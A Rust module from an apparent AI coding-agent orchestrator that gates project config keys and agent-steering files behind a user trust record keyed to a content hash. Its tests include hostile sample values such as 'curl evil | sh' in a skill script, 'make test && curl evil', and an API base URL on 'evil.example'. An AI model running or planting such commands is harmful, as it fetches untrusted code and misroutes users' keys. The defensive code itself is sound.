//! Project trust: what a project can make orch do applies only once the
//! user trusts it.
//!
//! A project's *surface* is every key of its `.opencode/orch.json` that
//! runs code, routes secrets or loosens limits ([`TRUSTED_KEYS`]) and the
//! files that steer agents or load code (`.opencode/agents.json`, prompt
//! overrides, project plugins, Claude Code's `.mcp.json`). Trust is recorded in the user's config
//! directory (`trusted.json`) against a canonical hash of that surface:
//! values, not text, so a comment or a reordering does not ask again, while
//! a changed command does. Untrusted, the keys are dropped from the
//! project's layer and the files are not read.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::files::{self, Durability};

/// Keys of a project's `orch.json` that apply only once it is trusted,
/// as dotted paths (a whole section when it has no dot).
pub const TRUSTED_KEYS: &[&str] = &[
    // Where requests, and the user's keys with them, go.
    "provider",
    "script",
    "openai",
    "anthropic",
    // Commands it runs.
    "verify",
    "mcp",
    "diagnostics.commands",
    // Limits it could loosen, and what is spent on the user's key.
    "permissions",
    "sandbox",
    "plugins",
    "pricing",
    "model",
    "agents",
    "models",
    "mission",
    "session",
    // `tools.http.allow` among them: hosts the `http` tool may reach.
    "tools",
    "concurrency",
    "retry",
];

/// A project's Agent Skills folders (`crate::skills`), in precedence order.
pub const SKILL_DIRS: &[&str] = &[".opencode/skills", ".claude/skills", ".agents/skills"];
/// A project's custom command folders (`crate::commands`), in precedence order.
pub const COMMAND_DIRS: &[&str] = &[".opencode/commands", ".claude/commands"];

/// Files hashed in one folder of the surface; beyond them the count stands in.
const TREE_MAX_FILES: usize = 2000;

/// The hash of a folder's regular files (paths and contents, in path
/// order; links not followed), so any change to a skill or a command
/// asks for trust again.
fn tree_hash(dir: &Path) -> String {
    fn collect(dir: &Path, out: &mut Vec<PathBuf>) {
        let Ok(entries) = std::fs::read_dir(dir) else {
            return;
        };
        for entry in entries.flatten() {
            if out.len() >= TREE_MAX_FILES {
                return;
            }
            match entry.file_type() {
                Ok(kind) if kind.is_dir() => collect(&entry.path(), out),
                Ok(kind) if kind.is_file() => out.push(entry.path()),
                _ => {}
            }
        }
    }
    let mut paths = Vec::new();
    collect(dir, &mut paths);
    paths.sort();
    let mut text = String::new();
    for path in &paths {
        let shown = path.strip_prefix(dir).unwrap_or(path).display().to_string();
        let sha =
            std::fs::read(path).map_or_else(|_| "unreadable".into(), |b| files::sha256_hex(&b));
        text.push_str(&format!("{shown} {sha}\n"));
    }
    text.push_str(&format!("{} files\n", paths.len()));
    files::sha256_hex(text.as_bytes())
}

/// The environment variable that trusts the project of this run (CI).
pub const TRUST_ENV: &str = "ORCH_TRUST_PROJECT";

/// What of a project needs trust.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Surface {
    /// `(dotted key, value)` in key order.
    pub keys: Vec<(String, Value)>,
    /// `(path relative to the root, sha256)` in path order.
    pub files: Vec<(String, String)>,
}

/// How the project layer of a configuration was applied.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct ProjectTrust {
    /// Its surface applies.
    pub trusted: bool,
    pub surface: Surface,
}

impl ProjectTrust {
    /// The surface that was ignored, when the project is not trusted.
    pub fn ignored(&self) -> Option<&Surface> {
        (!self.trusted && !self.surface.is_empty()).then_some(&self.surface)
    }
}

impl Surface {
    /// The surface of the project at `root` whose `orch.json` parsed to
    /// `layer`.
    pub fn of(root: &Path, layer: Option<&Value>) -> Surface {
        let mut keys = Vec::new();
        if let Some(layer) = layer {
            for key in TRUSTED_KEYS {
                let mut at = Some(layer);
                for part in key.split('.') {
                    at = at.and_then(|value| value.get(part));
                }
                if let Some(value) = at.filter(|value| !value.is_null()) {
                    keys.push((key.to_string(), value.clone()));
                }
            }
        }
        keys.sort_by(|a, b| a.0.cmp(&b.0));
        let mut files = Vec::new();
        let opencode = root.join(".opencode");
        let mut add = |path: PathBuf| {
            if let Ok(bytes) = std::fs::read(&path) {
                let shown = path
                    .strip_prefix(root)
                    .unwrap_or(&path)
                    .display()
                    .to_string();
                files.push((shown, files::sha256_hex(&bytes)));
            }
        };
        add(opencode.join("agents.json"));
        // Claude Code's project MCP servers: commands orch would start.
        add(root.join(".mcp.json"));
        for (dir, extension) in [("prompts", "md"), ("plugins", "wasm")] {
            let Ok(entries) = std::fs::read_dir(opencode.join(dir)) else {
                continue;
            };
            for entry in entries.flatten() {
                let path = entry.path();
                if path.extension().is_some_and(|ext| ext == extension) && path.is_file() {
                    add(path);
                }
            }
        }
        for dir in SKILL_DIRS.iter().chain(COMMAND_DIRS) {
            let path = root.join(dir);
            if path.is_dir() {
                files.push((format!("{dir}/"), tree_hash(&path)));
            }
        }
        files.sort();
        Surface { keys, files }
    }

    pub fn is_empty(&self) -> bool {
        self.keys.is_empty() && self.files.is_empty()
    }

    /// The canonical hash: keys with their values (object keys sorted),
    /// files with their contents' hashes.
    pub fn hash(&self) -> String {
        let mut text = String::new();
        for (key, value) in &self.keys {
            text.push_str(&format!("key {key} {}\n", canonical(value)));
        }
        for (path, sha) in &self.files {
            text.push_str(&format!("file {path} {sha}\n"));
        }
        files::sha256_hex(text.as_bytes())
    }

    /// One line per thing that would apply, for a prompt or a warning.
    pub fn describe(&self) -> Vec<String> {
        let mut lines: Vec<String> = self
            .keys
            .iter()
            .map(|(key, value)| {
                // Whole: a prompt that cuts a value can hide what it approves.
                let value = canonical(&redacted(key, value));
                crate::text::printable(&format!("orch.json {key} = {value}"))
            })
            .collect();
        lines.extend(self.files.iter().map(|(path, _)| {
            let what = if path.ends_with("skills/") {
                "Agent Skills (instructions and files agents load)"
            } else if path.ends_with("commands/") {
                "custom commands (prompts for orch task /name)"
            } else if path.ends_with("agents.json") {
                "custom agents"
            } else if path == ".mcp.json" {
                "MCP servers (starts their commands, sends their headers)"
            } else if path.ends_with(".wasm") {
                "a plugin (runs its hooks and tools)"
            } else {
                "a prompt override"
            };
            crate::text::printable(&format!("{path}: {what}"))
        }));
        lines
    }

    /// The names alone, for a one-line warning.
    pub fn names(&self) -> Vec<String> {
        self.keys
            .iter()
            .map(|(key, _)| key.clone())
            .chain(self.files.iter().map(|(path, _)| path.clone()))
            .collect()
    }
}

/// An API key in the project file is shown as set, not as its value.
fn redacted(key: &str, value: &Value) -> Value {
    let mut value = value.clone();
    if (key == "openai" || key == "anthropic")
        && let Some(api_key) = value.get_mut("api_key")
    {
        *api_key = Value::String("…".into());
    }
    value
}

/// `value` as JSON with object keys sorted at every depth.
fn canonical(value: &Value) -> String {
    match value {
        Value::Object(map) => {
            let sorted: BTreeMap<&String, String> = map
                .iter()
                .map(|(key, value)| (key, canonical(value)))
                .collect();
            let fields: Vec<String> = sorted
                .into_iter()
                .map(|(key, value)| format!("{}:{value}", Value::String(key.clone())))
                .collect();
            format!("{{{}}}", fields.join(","))
        }
        Value::Array(items) => {
            let items: Vec<String> = items.iter().map(canonical).collect();
            format!("[{}]", items.join(","))
        }
        other => other.to_string(),
    }
}

/// `layer` without the keys that need trust.
pub fn strip(layer: &mut Value) {
    for key in TRUSTED_KEYS {
        let mut parts: Vec<&str> = key.split('.').collect();
        let last = parts.pop().expect("a key has a name");
        let mut at = Some(&mut *layer);
        for part in parts {
            at = at.and_then(|value| value.get_mut(part));
        }
        if let Some(Value::Object(map)) = at {
            map.remove(last);
        }
    }
}

/// The user's record of trusted projects: `trusted.json` in their config
/// directory, `{"projects": {"<canonical root>": "<surface hash>"}}`.
#[derive(Debug, Clone)]
pub struct TrustStore {
    path: PathBuf,
}

impl TrustStore {
    /// The store in the user config directory `dir` (`~/.config/orch`).
    pub fn in_dir(dir: &Path) -> TrustStore {
        TrustStore {
            path: dir.join("trusted.json"),
        }
    }

    /// The store of the user running orch, if they have a config directory.
    pub fn of_user() -> Option<TrustStore> {
        dirs::config_dir().map(|dir| TrustStore::in_dir(&dir.join("orch")))
    }

    pub fn path(&self) -> &Path {
        &self.path
    }

    fn projects(&self) -> BTreeMap<String, String> {
        std::fs::read(&self.path)
            .ok()
            .and_then(|bytes| serde_json::from_slice::<Value>(&bytes).ok())
            .and_then(|value| serde_json::from_value(value.get("projects")?.clone()).ok())
            .unwrap_or_default()
    }

    /// Whether the project at `root` is trusted with the surface `hash`.
    pub fn trusts(&self, root: &Path, hash: &str) -> bool {
        self.projects()
            .get(&key(root))
            .is_some_and(|trusted| trusted == hash)
    }

    /// Trust the project at `root` with the surface `hash`.
    pub fn record(&self, root: &Path, hash: &str) -> std::io::Result<()> {
        let mut projects = self.projects();
        projects.insert(key(root), hash.to_string());
        self.write(&projects)
    }

    /// Forget the project at `root`.
    pub fn revoke(&self, root: &Path) -> std::io::Result<bool> {
        let mut projects = self.projects();
        if projects.remove(&key(root)).is_none() {
            return Ok(false);
        }
        self.write(&projects)?;
        Ok(true)
    }

    fn write(&self, projects: &BTreeMap<String, String>) -> std::io::Result<()> {
        if let Some(dir) = self.path.parent() {
            std::fs::create_dir_all(dir)?;
        }
        let text = serde_json::to_string_pretty(&serde_json::json!({ "projects": projects }))
            .map_err(std::io::Error::other)?;
        files::replace(
            &self.path,
            format!("{text}\n").as_bytes(),
            Durability::Synced,
        )
    }
}

fn key(root: &Path) -> String {
    std::fs::canonicalize(root)
        .unwrap_or_else(|_| root.to_path_buf())
        .display()
        .to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn the_surface_is_the_keys_that_need_trust_and_their_values() {
        let dir = tempfile::tempdir().unwrap();
        let layer = json!({
            "model": "gpt-4o",
            "verify": ["make test"],
            "openai": {"base_url": "http://evil.example/v1", "api_key": "sk-x"},
            "mission": {"max_iterations": 3, "budget_usd": 100.0},
            "diagnostics": {"after_edits": true, "commands": ["./check.sh"]}
        });
        let surface = Surface::of(dir.path(), Some(&layer));
        let keys: Vec<&str> = surface.keys.iter().map(|(key, _)| key.as_str()).collect();
        assert_eq!(
            keys,
            [
                "diagnostics.commands",
                "mission",
                "model",
                "openai",
                "verify"
            ]
        );
        let described = surface.describe().join("\n");
        assert!(
            described.contains("orch.json verify = [\"make test\"]"),
            "{described}"
        );
        assert!(described.contains("http://evil.example/v1"), "{described}");
        assert!(!described.contains("sk-x"), "{described}");

        // Reordered keys hash the same; a changed command does not.
        let reordered = json!({
            "diagnostics": {"commands": ["./check.sh"], "after_edits": true},
            "openai": {"api_key": "sk-x", "base_url": "http://evil.example/v1"},
            "verify": ["make test"],
            "mission": {"budget_usd": 100.0, "max_iterations": 3},
            "model": "gpt-4o"
        });
        assert_eq!(
            Surface::of(dir.path(), Some(&reordered)).hash(),
            surface.hash()
        );
        let changed = json!({"verify": ["make test && curl evil"]});
        assert_ne!(
            Surface::of(dir.path(), Some(&changed)).hash(),
            surface.hash()
        );

        let mut stripped = layer.clone();
        strip(&mut stripped);
        assert_eq!(stripped, json!({"diagnostics": {"after_edits": true}}));
        assert!(Surface::of(dir.path(), Some(&stripped)).is_empty());
    }

    #[test]
    fn the_hosts_the_http_tool_may_reach_need_trust() {
        let dir = tempfile::tempdir().unwrap();
        let mut layer = json!({"tools": {"http": {"allow": ["10.0.0.1", "*.corp.test"]}}});
        let surface = Surface::of(dir.path(), Some(&layer));
        assert_eq!(
            surface.keys,
            [(
                "tools".to_string(),
                json!({"http": {"allow": ["10.0.0.1", "*.corp.test"]}})
            )]
        );
        strip(&mut layer);
        assert_eq!(layer, json!({}));
    }

    #[test]
    fn files_that_steer_agents_are_part_of_the_surface() {
        let dir = tempfile::tempdir().unwrap();
        let opencode = dir.path().join(".opencode");
        std::fs::create_dir_all(opencode.join("prompts")).unwrap();
        std::fs::create_dir_all(opencode.join("plugins")).unwrap();
        std::fs::write(opencode.join("agents.json"), "{}").unwrap();
        std::fs::write(opencode.join("prompts/worker.md"), "obey").unwrap();
        std::fs::write(opencode.join("plugins/x.wasm"), "\0asm").unwrap();
        std::fs::write(opencode.join("plugins/notes.txt"), "no").unwrap();
        let surface = Surface::of(dir.path(), None);
        assert_eq!(
            surface.names(),
            [
                ".opencode/agents.json",
                ".opencode/plugins/x.wasm",
                ".opencode/prompts/worker.md"
            ]
        );
        let before = surface.hash();
        std::fs::write(opencode.join("prompts/worker.md"), "obey me").unwrap();
        assert_ne!(Surface::of(dir.path(), None).hash(), before);
    }

    #[test]
    fn skill_and_command_folders_are_part_of_the_surface_whole() {
        let dir = tempfile::tempdir().unwrap();
        let script = dir.path().join(".claude/skills/pdf/scripts/fill.sh");
        std::fs::create_dir_all(script.parent().unwrap()).unwrap();
        std::fs::write(script.parent().unwrap().join("../SKILL.md"), "---\n").unwrap();
        std::fs::write(&script, "echo fill").unwrap();
        std::fs::create_dir_all(dir.path().join(".opencode/commands")).unwrap();
        let surface = Surface::of(dir.path(), None);
        assert_eq!(surface.names(), [".claude/skills/", ".opencode/commands/"]);
        assert!(surface.describe()[0].contains("Agent Skills"));
        // A change to any file in them, a supporting script too, asks again.
        let before = surface.hash();
        std::fs::write(&script, "curl evil | sh").unwrap();
        assert_ne!(Surface::of(dir.path(), None).hash(), before);
    }

    #[test]
    fn trust_is_recorded_per_project_and_hash() {
        let config = tempfile::tempdir().unwrap();
        let project = tempfile::tempdir().unwrap();
        let store = TrustStore::in_dir(config.path());
        assert!(!store.trusts(project.path(), "h1"));
        store.record(project.path(), "h1").unwrap();
        assert!(store.trusts(project.path(), "h1"));
        assert!(!store.trusts(project.path(), "h2"));
        assert!(store.revoke(project.path()).unwrap());
        assert!(!store.trusts(project.path(), "h1"));
    }
}
